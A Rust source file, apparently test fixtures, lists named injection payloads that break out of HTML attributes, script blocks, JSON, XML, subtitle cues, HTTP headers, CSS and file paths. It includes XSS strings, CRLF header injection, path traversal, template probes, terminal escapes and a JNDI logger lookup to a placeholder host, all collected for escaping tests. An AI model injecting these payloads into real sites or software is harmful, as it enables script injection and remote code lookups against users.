//! Words that end the place they stand in: an attribute, a title, data within a script, a line of a file.

pub(super) const ALL: &[(&str, &str)] = &[
    ("out-of-double-quotes", "\"><img src=x onerror={run}>"),
    ("out-of-single-quotes", "'><img src=x onerror={run}>"),
    ("out-of-backticks", "`><img src=x onerror={run}>"),
    (
        "into-another-attribute",
        "\" onmouseover=\"{run}\" autofocus onfocus=\"{run}",
    ),
    (
        "into-another-attribute-in-single-quotes",
        "' onmouseover='{run}' x='",
    ),
    (
        "into-another-attribute-without-quotes",
        "x onmouseover={run} y",
    ),
    ("out-of-a-title", "</title><script>{run}</script>"),
    ("out-of-a-head", "</title></head><body onload={run}>"),
    ("out-of-data", "</script><script>{run}</script>"),
    (
        "out-of-data-in-capitals",
        "</SCRIPT ><img src=x onerror={run}>",
    ),
    ("out-of-data-by-a-comment", "<!--<script>{run}"),
    ("out-of-a-comment", "--><script>{run}</script><!--"),
    (
        "out-of-a-script-that-is-hidden",
        "<!-- <script> --></script><img src=x onerror={run}>",
    ),
    ("out-of-json", "\",\"@type\":\"Evil\",\"x\":\"\\"),
    (
        "out-of-json-by-a-backslash",
        "\\\"},{\"@type\":\"Evil\"}\\u003c/script\\u003e",
    ),
    ("out-of-json-by-a-separator", "a\u{2028}b\u{2029}c\u{85}d"),
    (
        "out-of-character-data",
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script><![CDATA[",
    ),
    (
        "out-of-an-element-of-xml",
        "</title></channel></rss><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    ),
    ("entity-of-xml", "&xxe; &#0; &#x1F; &#xFFFE; &lol9;"),
    (
        "instruction-of-xml",
        "<?xml-stylesheet type='text/xsl' href='{beacon}'?>",
    ),
    (
        "out-of-a-cue",
        "words\n\n00:00:00.000 --> 00:00:09.000\n<v Evil>{run}",
    ),
    ("out-of-a-cue-by-an-arrow", "words --> 00:09:00.000 line:0"),
    (
        "out-of-a-header",
        "words\r\nSet-Cookie: a=b\r\n\r\n<script>{run}</script>",
    ),
    ("out-of-a-redirect", "words 302\n/* {beacon} 301!"),
    ("out-of-a-style", "red;}</style><script>{run}</script>"),
    ("out-of-a-colour", "#fff;background:url({beacon})"),
    ("out-of-a-path", "../../../../tmp/hostile-{run}"),
    ("out-of-a-path-by-a-root", "/etc/hostname"),
    ("out-of-a-path-by-percents", "%2e%2e%2f%2e%2e%2fhostile"),
    ("out-of-a-path-of-windows", "C:\\hostile.txt:stream"),
    ("name-of-a-device", "con"),
    ("name-of-the-site-s-own-file", "index.html"),
    ("name-of-an-object-s-own", "__proto__"),
    (
        "template-of-a-server",
        "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% raw %}",
    ),
    (
        "signs-that-steer-terminals",
        "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m words",
    ),
    (
        "format-of-a-logger",
        "%s%n%x{0} ${jndi:ldap://elsewhere.example/a}",
    ),
    ("half-of-a-pair", "words \u{fffd}\u{d7ff}\u{e000}\u{ffff}"),
    (
        "marks-that-pile-up",
        "w\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}ords",
    ),
    (
        "nothing-to-see",
        "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{3164}",
    ),
];
